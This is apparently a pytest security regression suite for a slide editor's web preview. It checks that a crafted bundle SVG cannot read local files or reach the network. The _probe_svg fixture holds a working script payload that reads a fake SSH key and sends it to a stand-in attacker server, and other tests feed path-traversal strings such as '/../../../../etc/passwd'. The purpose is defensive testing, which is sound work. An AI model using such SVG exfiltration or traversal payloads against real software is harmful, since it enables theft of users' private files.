"""A crafted article cannot reach the writer's files, the network or the window through the preview.

The attack (as reported): a slide links its photo to an SVG in the bundle that holds a script; one
real click on the photo used to open the SVG in the preview, where the script read a local file and
sent it to a server. Here a local HTTP server stands in for the attacker's, and must receive nothing.
"""

from __future__ import annotations

import http.server
import json
import threading
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from PySide6.QtCore import QObject, QPoint, Qt, QUrl
from PySide6.QtWebEngineCore import QWebEnginePage, QWebEngineUrlRequestJob
from uihelpers import run_js

from imagefactory import make_image
from slidewright import load_article, save_article
from slidewright.model import Slide
from slidewright.ui.preview import scheme as preview_scheme
from slidewright.ui.preview.scheme import BundleSchemeHandler, Source, preview_profile
from slidewright.ui.window.main_window import MainWindow


class Collector(http.server.BaseHTTPRequestHandler):
    hits: list[str] = []

    def do_GET(self) -> None:  # noqa: N802
        Collector.hits.append(self.path)
        self.send_response(204)
        self.end_headers()

    do_POST = do_GET

    def log_message(self, *_: object) -> None:
        pass


@pytest.fixture
def attacker() -> Iterator[str]:
    Collector.hits = []
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Collector)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    yield f"http://127.0.0.1:{server.server_address[1]}"
    server.shutdown()


def _probe_svg(attacker: str, canary: Path) -> str:
    return f"""<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><script>
fetch('{attacker}/collect?started=1').catch(() => {{}});
fetch('file://{canary}').then(r => r.text()).then(t => {{
  new Image().src = '{attacker}/collect?k=' + encodeURIComponent(t);
}}).catch(() => {{ new Image().src = '{attacker}/collect?failed=1'; }});
try {{ qt.webChannelTransport.send('x'); new Image().src = '{attacker}/collect?bridge=1'; }} catch (e) {{}}
setTimeout(() => {{ location.href = '{attacker}/collect?nav=1'; }}, 200);
</script></svg>"""


@pytest.fixture
def crafted(sample_bundle: Path, attacker: str, tmp_path: Path) -> Path:
    canary = tmp_path / "home" / ".ssh" / "id_canary"
    canary.parent.mkdir(parents=True)
    canary.write_text("CANARY-SECRET-KEY")
    make_image(sample_bundle / "images" / "photo.jpg", seed=3)
    (sample_bundle / "images" / "probe.svg").write_text(_probe_svg(attacker, canary))
    article = load_article(sample_bundle)
    article.slides.insert(
        0,
        Slide(
            heading="Harbour at noon",
            image="images/photo.jpg",
            alt="The harbour",
            credit="Jana Novak",
            body="[![photo](images/photo.jpg)](images/probe.svg)\n\n"
            "[a link](images/probe.svg) and [another](file:///etc/passwd)",
        ),
    )
    save_article(article, sample_bundle)
    return sample_bundle


def _click_at(qtbot: Any, window: MainWindow, selector: str) -> None:
    """A real mouse click (press and release on the view's render widget) at an element."""
    box = json.loads(
        run_js(
            qtbot,
            window,
            f"(() => {{ const e = document.querySelector({json.dumps(selector)});"
            "e.scrollIntoView({block: 'center'}); const r = e.getBoundingClientRect();"
            "return JSON.stringify([r.left + r.width / 2, r.top + r.height / 2]); })()",
        )
    )
    target = window.preview.focusProxy() or window.preview
    qtbot.mouseClick(target, Qt.MouseButton.LeftButton, pos=QPoint(int(box[0]), int(box[1])))


def test_clicking_a_photo_linked_to_a_bundle_svg_runs_nothing_and_sends_nothing(
    qtbot: Any, window: MainWindow, crafted: Path, attacker: str
) -> None:
    assert window.session.open_path(crafted)
    qtbot.waitUntil(lambda: window.preview.ready, timeout=15000)
    page_url = window.preview.page().url()
    for selector in ("#slide-1 .sw-body a img", "#slide-1 .sw-body p:nth-of-type(2) a"):
        _click_at(qtbot, window, selector)
        qtbot.wait(800)
    assert window.preview.page().url() == page_url  # still our page
    assert Collector.hits == []  # the attacker's server heard nothing
    assert run_js(qtbot, window, "typeof window.qt") == "undefined"  # no bridge for page scripts

    heading = window.slide_editor.fields["heading"]
    heading.end(False)
    qtbot.keyClicks(heading, " and dusk")  # the preview still follows the writer
    qtbot.waitUntil(
        lambda: run_js(qtbot, window, "document.querySelector('#slide-1 h2').textContent").endswith(
            "and dusk"
        ),
        timeout=5000,
    )


def test_the_interceptor_blocks_requests_that_leave_the_preview(qtbot: Any, attacker: str) -> None:
    """The preview profile's request interceptor is alive and refuses what is not our page:
    a page of some other origin, a network address, a local file."""
    profile, _handler = preview_profile()
    page = QWebEnginePage(profile)
    before = len(preview_scheme.interceptor().blocked)
    for url in (f"{attacker}/collect?nav=1", "file:///etc/hostname"):
        with qtbot.waitSignal(page.loadFinished, timeout=10000):
            page.load(QUrl(url))
    with qtbot.waitSignal(page.loadFinished, timeout=10000):
        page.setHtml(f'<img src="{attacker}/collect?img=1">')
    blocked = preview_scheme.interceptor().blocked[before:]
    assert any(url.startswith(f"{attacker}/collect?nav=1") for url in blocked)
    assert "file:///etc/hostname" in blocked
    assert any(url.startswith("data:text/html") for url in blocked)
    assert Collector.hits == []
    page.deleteLater()


class FakeJob(QObject):
    """Stands in for QWebEngineUrlRequestJob: records what the handler answers."""

    def __init__(self, url: str) -> None:
        super().__init__()
        self.url, self.failed, self.mime, self.data, self.headers = QUrl(url), None, None, b"", {}

    def requestUrl(self) -> QUrl:  # noqa: N802
        return self.url

    def fail(self, error: QWebEngineUrlRequestJob.Error) -> None:
        self.failed = error

    def setAdditionalResponseHeaders(self, headers: dict) -> None:  # noqa: N802
        self.headers = {bytes(k).decode(): bytes(v[0]).decode() for k, v in headers.items()}

    def reply(self, mime: Any, device: Any) -> None:
        self.mime, self.data = bytes(mime).decode(), bytes(device.readAll())


def test_the_scheme_serves_images_from_the_bundle_only_each_with_a_sandbox_policy(
    crafted: Path, tmp_path: Path
) -> None:
    handler = BundleSchemeHandler()
    host = handler.add(Source(crafted))
    answers = {}
    for path in (
        "/images/photo.jpg",
        "/images/probe.svg",
        "/index.md",
        "/../../../../etc/passwd",
        "/%2e%2e/%2e%2e/etc/passwd",
    ):
        job = FakeJob(f"slidewright://{host}{path}")
        handler.requestStarted(job)  # type: ignore[arg-type]
        answers[path] = job
    assert answers["/images/photo.jpg"].mime == "image/jpeg"
    assert answers["/images/photo.jpg"].headers["Content-Security-Policy"].startswith("sandbox")
    assert answers["/images/probe.svg"].headers["Content-Security-Policy"].startswith("sandbox")
    for refused in ("/index.md", "/../../../../etc/passwd", "/%2e%2e/%2e%2e/etc/passwd"):
        assert answers[refused].failed is not None and answers[refused].data == b""
